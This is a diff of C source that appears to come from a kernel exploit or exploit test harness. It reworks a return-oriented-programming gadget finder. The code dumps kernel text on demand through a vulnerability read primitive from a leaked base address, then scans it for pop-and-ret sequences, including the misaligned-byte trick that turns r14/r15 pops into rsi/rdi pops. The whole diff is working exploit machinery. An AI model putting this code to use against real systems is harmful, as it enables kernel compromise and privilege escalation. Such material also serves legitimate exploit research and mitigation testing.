@@ -13,60 +13,68 @@ enum {
 	MAX_EXTRA = 6,
 };
 
-uint8_t *gadget_text(const struct bw_leak *leak, size_t *nr_bytes)
+void gadget_text_open(struct gadget_text *text, const struct bw_leak *leak)
 {
-	size_t length = (leak->image_text_end - leak->image_base) & ~(size_t)7;
-	uint8_t *text = malloc(length);
+	size_t nr_bytes = (leak->image_text_end - leak->image_base) & ~(sizeof(long) - 1);
 
-	if (text == NULL) {
+	*text = (struct gadget_text){
+		.base = leak->image_base,
+		.nr_bytes = nr_bytes,
+		.copy = malloc(nr_bytes),
+	};
+	if (text->copy == NULL) {
 		attack_skip("no memory for a copy of the kernel's text");
 	}
-	for (size_t offset = 0; offset < length; offset += sizeof(long)) {
-		long word = bw_vuln_read(leak->image_base + offset);
-
-		memcpy(text + offset, &word, sizeof(word));
-	}
-	*nr_bytes = length;
-	return text;
 }
 
-/* True where only pops and then a ret follow; counts the pops. */
-static bool ends_in_ret(const uint8_t *code, const uint8_t *end, unsigned int *nr_pops)
+/* Of the text, or a byte that is in no gadget behind its end. */
+static uint8_t byte_at(struct gadget_text *text, size_t offset)
 {
-	*nr_pops = 0;
-	while (code < end && *nr_pops <= MAX_EXTRA) {
-		if (*code == OPCODE_RET) {
+	if (offset >= text->nr_bytes) {
+		return 0;
+	}
+	while (text->nr_read <= offset) {
+		long word = bw_vuln_read(text->base + text->nr_read);
+
+		memcpy(text->copy + text->nr_read, &word, sizeof(word));
+		text->nr_read += sizeof(word);
+	}
+	return text->copy[offset];
+}
+
+/* True where only pops and then a ret follow; counts the pops and says where the ret is. */
+static bool ends_in_ret(struct gadget_text *text, size_t offset, struct gadget *gadget)
+{
+	for (gadget->nr_extra = 0; gadget->nr_extra <= MAX_EXTRA; gadget->nr_extra++, offset++) {
+		uint8_t code = byte_at(text, offset);
+
+		if (code == OPCODE_RET) {
+			gadget->at_return = text->base + offset;
 			return true;
 		}
-		if (*code == OPCODE_PREFIX_B && code + 1 < end) {
-			code++;
-		} else if (*code == OPCODE_POP_RSP) {
+		if (code == OPCODE_PREFIX_B) {
+			code = byte_at(text, ++offset);
+		} else if (code == OPCODE_POP_RSP) {
 			return false;
 		}
-		if (*code < OPCODE_POP || *code > OPCODE_POP_LAST) {
+		if (code < OPCODE_POP || code > OPCODE_POP_LAST) {
 			return false;
 		}
-		code++;
-		(*nr_pops)++;
 	}
 	return false;
 }
 
-bool gadget_find(const uint8_t *text, size_t nr_bytes, uint64_t text_base, enum gadget_register reg,
+bool gadget_find(struct gadget_text *text, uint64_t from, enum gadget_register reg,
 		 struct gadget *gadget)
 {
-	const uint8_t *end = text + nr_bytes;
-
 	/*
 	 * Compiled code pops r14 and r15 before it returns; from its second byte on that is rsi and
 	 * rdi.
 	 */
-	for (const uint8_t *code = text; code < end; code++) {
-		unsigned int nr_extra;
-
-		if (*code == OPCODE_POP + reg && ends_in_ret(code + 1, end, &nr_extra)) {
-			gadget->address = text_base + (uint64_t)(code - text);
-			gadget->nr_extra = nr_extra;
+	for (size_t offset = from - text->base; offset < text->nr_bytes; offset++) {
+		if (byte_at(text, offset) == OPCODE_POP + reg &&
+		    ends_in_ret(text, offset + 1, gadget)) {
+			gadget->address = text->base + offset;
 			return true;
 		}
 	}
